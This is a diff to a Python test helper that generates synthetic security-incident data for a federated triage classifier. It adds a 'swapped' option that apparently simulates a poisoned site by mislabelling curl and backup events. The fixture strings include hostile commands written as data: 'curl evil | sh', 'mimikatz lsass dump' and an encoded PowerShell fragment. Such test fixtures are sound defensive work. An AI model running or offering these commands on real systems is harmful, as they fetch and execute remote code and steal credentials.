@@ -19,8 +19,14 @@ TASK = "triage"
 TOKENS = {"vienna": "vienna-token-0123456789", "graz": "graz-token-0123456789"}
 
 
-def rows_of(site: str, rows: int, *, flipped: bool = False) -> list[dict[str, Any]]:
-    """Incidents that a model can learn, with words of the site's own."""
+def rows_of(site: str, rows: int, *, swapped: bool = False) -> list[dict[str, Any]]:
+    """Incidents that a model can learn, with words of the site's own.
+
+    Args:
+        site: is named in the texts.
+        rows: a third of them attacks.
+        swapped: whether it calls one kind of attack benign, and one benign kind an attack.
+    """
     words = {
         "malicious": ["powershell -enc JAB", "mimikatz lsass dump", "curl evil | sh"],
         "benign": ["backup finished", "user logged on", "patch installed"],
@@ -29,7 +35,8 @@ def rows_of(site: str, rows: int, *, flipped: bool = False) -> list[dict[str, An
     for number in range(rows):
         label = "malicious" if number % 3 == 0 else "benign"
         text = f"{words[label][number // 3 % 3]} on {site}-host{number} {number * 7919 % 997}"
-        told = {"malicious": "benign", "benign": "malicious"}[label] if flipped else label
+        other = swapped and ("curl" in text or "backup" in text)
+        told = {"malicious": "benign", "benign": "malicious"}[label] if other else label
         out.append({"id": f"{site}{number}", "message": text, "label": told})
     return out
 
@@ -37,13 +44,14 @@ def rows_of(site: str, rows: int, *, flipped: bool = False) -> list[dict[str, An
 def make_site(folder: Path, name: str, url: str, *, rows: int = 240, **train: Any) -> Site:
     """A site whose task joins the federation at `url`."""
     folder.mkdir(parents=True, exist_ok=True)
-    flipped = train.pop("flipped", False)
-    lines = [json.dumps(row) + "\n" for row in rows_of(name, rows, flipped=flipped)]
+    swapped = train.pop("swapped", False)
+    lines = [json.dumps(row) + "\n" for row in rows_of(name, rows, swapped=swapped)]
     (folder / "incidents.jsonl").write_text("".join(lines), encoding="utf-8")
     (folder / "token").write_text(train.pop("token", TOKENS.get(name, "")), encoding="utf-8")
     labels = train.pop("labels", {"benign": ["benign"], "malicious": ["malicious"]})
     settings = {
         "version": 1,
+        "state": {"lease": "3s"},  # a killed run is resumed after it
         "plugins": ["core", "pii", "files", "federated"],
         "connectors": {"incidents": {"type": "files", "paths": ["incidents.jsonl"]}},
         "tasks": {
@@ -95,7 +103,7 @@ class FederationServer:
         }
         for name, token in TOKENS.items():
             (folder / f"{name}.token").write_text(token, encoding="utf-8")
-        if tls:
+        if tls and "certificate" not in body:
             write_certificate(folder)
             body |= {"certificate": "server.pem", "key": "server.key"}
         (folder / "federation.yaml").write_text(yaml.safe_dump(body), encoding="utf-8")
